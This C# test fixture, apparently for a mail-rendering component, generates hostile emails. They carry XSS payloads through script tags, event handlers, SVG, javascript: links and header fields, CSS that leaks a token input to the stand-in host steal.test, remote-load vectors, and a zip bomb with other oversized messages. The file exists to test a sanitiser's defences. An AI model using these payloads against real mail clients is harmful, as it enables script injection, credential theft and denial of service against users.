using System.IO.Compression;
using System.Text;

namespace Hawl.BrowserTests;

// Mails whose writers mean harm. Each shows its mark in plain words, and would betray itself by a script that runs or by asking
// for something at steal.test.
public static class HostileMail
{
    private const string Script = "window.harmed = true; fetch('https://steal.test/ran');";
    private const int Parts = 10_000;
    private const int LongLine = 50_000_000;
    private const int Bomb = 300_000_000;

    public static IReadOnlyDictionary<string, Func<string, byte[]>> All { get; } = new Dictionary<string, Func<string, byte[]>>
    {
        ["script"] = mark => Html($"<p>{mark}</p><script>{Script}</script><script src=https://steal.test/a.js></script>"
            + $"<p>&lt;script&gt;{Script}&lt;/script&gt;</p><noscript><img src=https://steal.test/n></noscript>"),
        ["handlers"] = mark => Html($"<body onload=\"{Script}\"><p onmouseover=\"{Script}\" onclick=\"{Script}\">{mark}</p>"
            + $"<img src=x onerror=\"{Script}\"><details open ontoggle=\"{Script}\">x</details><input autofocus onfocus=\"{Script}\">"
            + $"<b title='\"><img src=x onerror={Script}>'>y</b><marquee onstart=\"{Script}\">z</marquee>"),
        ["svg"] = mark => Html($"<p>{mark}</p><svg onload=\"{Script}\"><script>{Script}</script><image href=https://steal.test/svg>"
            + $"<animate onbegin=\"{Script}\" attributeName=x></svg><math><mtext><style><img src=x onerror=\"{Script}\"></style></math>"),
        ["links"] = mark => Html($"<p>{mark} <a href=\"javascript:{Script}\">one</a> <a href=\"java\tscript:{Script}\">two</a>"
            + $" <a href=\"data:text/html,<script>{Script}</script>\">three</a> <a href=\" vbscript:x\">four</a>"
            + " <a href=\"https://eur01.safelinks.protection.outlook.com/?url=javascript%3Afetch(1)&data=0\">five</a></p>"),
        ["styles"] = mark => Html("<style>@import url(https://steal.test/i.css); @font-face{font-family:f;src:url(https://steal.test/f)}"
            + " body{background:url(https://steal.test/b)} input[name^=_]{background:url(https://steal.test/token)}"
            + " *{font-family:f!important}</style>"
            + $"<p style=\"background:url(https://steal.test/p);color:red;font-family:f;width:expression({Script})\">{mark}</p>"
            + "<div style='position:fixed;inset:0;z-index:9999'>over all</div>"),
        ["loads"] = mark => Html("<base href=https://steal.test/><meta http-equiv=refresh content='0;url=https://steal.test/gone'>"
            + $"<link rel=stylesheet href=s.css><link rel=prefetch href=p><p>{mark}</p><img src=1 srcset='2 2x'><video poster=3 autoplay>"
            + "<source src=4></video><audio src=5 autoplay></audio><object data=6></object><embed src=7><iframe src=8></iframe>"
            + "<iframe srcdoc='<script>parent.harmed=true</script>'></iframe><table background=9><tr><td background=10>t</table>"
            + "<form action=11><input type=image src=12><button>Go</button></form><picture><source srcset=13><img src=14></picture>"),
        ["subject and names"] = mark => Mail(
            $"<script>{Script}</script><img src=https://steal.test/subject>",
            "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n"
            + $"{mark} https://steal.test/\"onmouseover=\"{Script}\r\n--b\r\n"
            + $"Content-Type: text/html; name=\"\\\"><img src=x onerror={Script}>.html\"\r\n"
            + $"Content-Disposition: attachment\r\n\r\n<script>{Script}</script>\r\n--b--\r\n"),
        ["ten thousand parts"] = mark => Mail("Parts", "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
            + $"--b\r\nContent-Type: text/plain\r\n\r\n{mark}\r\n"
            + string.Concat(Enumerable.Range(0, Parts).Select(n => $"--b\r\nContent-Type: image/png\r\n\r\n{n}\r\n")) + "--b--\r\n"),
        ["zip bomb"] = mark => Mail("Bomb", "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
            + $"--b\r\nContent-Type: text/plain\r\n\r\n{mark}\r\n--b\r\nContent-Type: application/zip; name=bomb.zip\r\n"
            + "Content-Transfer-Encoding: base64\r\n\r\n"
            + $"{Convert.ToBase64String(Zip(), Base64FormattingOptions.InsertLineBreaks)}\r\n--b--\r\n"),
        ["long line"] = mark => Mail("Line", "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
            + $"--b\r\nContent-Type: text/plain\r\n\r\n{mark}\r\n--b\r\nContent-Type: text/plain\r\n\r\n"
            + $"{new string('x', LongLine)}\r\n--b--\r\n"),
    };

    private static byte[] Html(string html) => Mail("Hostile", $"Content-Type: text/html; charset=utf-8\r\n\r\n<html>{html}</html>\r\n");

    private static byte[] Mail(string subject, string rest) => Encoding.UTF8.GetBytes(
        $"From: \"<img src=x onerror=alert(1)>\" <officer@steal.test>\r\nSubject: {subject}\r\n"
        + $"Message-ID: <{Guid.NewGuid():N}@steal.test>\r\nMIME-Version: 1.0\r\n{rest}");

    private static byte[] Zip()
    {
        using var into = new MemoryStream();
        using (var archive = new ZipArchive(into, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var member = archive.CreateEntry("zeros", CompressionLevel.Fastest).Open();
            var zeros = new byte[1_000_000];
            for (var written = 0; written < Bomb; written += zeros.Length)
            {
                member.Write(zeros);
            }
        }

        return into.ToArray();
    }
}
